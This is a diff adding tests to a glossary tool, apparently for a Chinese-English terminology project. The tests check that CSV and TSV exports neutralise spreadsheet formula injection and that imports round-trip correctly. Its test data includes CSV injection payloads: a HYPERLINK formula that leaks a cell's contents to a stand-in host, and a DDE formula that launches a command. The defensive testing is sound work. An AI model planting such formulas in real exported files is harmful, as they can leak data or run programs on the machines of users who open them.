@@ -270,3 +270,57 @@ def test_yaml_and_tbx_round_trip_any_text(tmp_path_factory, rows):
     back = import_entries(tbx_path)
     expected = [(e.zh, e.en, e.first if e.first != e.en else None, e.note) for e in entries]
     assert [(e.zh, e.en, e.first, e.note) for e in back] == expected
+
+
+# Renderings a spreadsheet would run as formulas (OWASP's CSV injection examples), and a cell
+# that already starts with the quote that neutralises them.
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"EPPD")',
+    "=cmd|' /C calc'!A0",
+    "+886-2-2311-3731",
+    "-2 percent",
+    "@SUM(A1:A9)",
+    "'=kept as typed",
+    "''+two quotes",
+]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv"])
+def test_formulas_are_exported_as_text_and_imported_as_they_were(tmp_path, fmt):
+    entries = [Entry(zh=[f"術語{n}"], en=en) for n, en in enumerate(FORMULAS)]
+    entries.append(Entry(zh=["=行政院"], en="Executive Yuan"))
+    data = export_glossary(Glossary(entries), fmt).decode("utf-8")
+    cells = [
+        c
+        for row in csv.reader(io.StringIO(data), delimiter="," if fmt == "csv" else "\t")
+        for c in row
+    ]
+    # what a spreadsheet would run: a cell starting with = + - @ tab or CR, quote or not
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK(" in data
+    path = tmp_path / f"glossary.{fmt}"
+    path.write_bytes(data.encode("utf-8"))
+    back = import_entries(path)
+    assert [(e.zh, e.en) for e in back] == [(e.zh, e.en) for e in entries]
+
+
+@settings(max_examples=60, deadline=None)
+@given(
+    st.lists(
+        st.tuples(
+            TEXT,
+            st.tuples(st.sampled_from(["", "'", "''", "=", "+", "-", "@", "'-"]), TEXT).map(
+                "".join
+            ),
+        ),
+        min_size=1,
+        max_size=5,
+        unique_by=(lambda t: t[0], lambda t: t[1]),
+    ).filter(lambda rows: not rows[0][0].lower().startswith("zh")),  # not a header row
+    st.sampled_from(["csv", "tsv"]),
+)
+def test_csv_and_tsv_round_trip_any_leading_character(tmp_path_factory, rows, fmt):
+    entries = [Entry(zh=[zh], en=en) for zh, en in rows]
+    path = tmp_path_factory.mktemp("rt") / f"g.{fmt}"
+    path.write_bytes(export_glossary(Glossary(entries), fmt))
+    assert [(e.zh, e.en) for e in import_entries(path)] == [(e.zh, e.en) for e in entries]
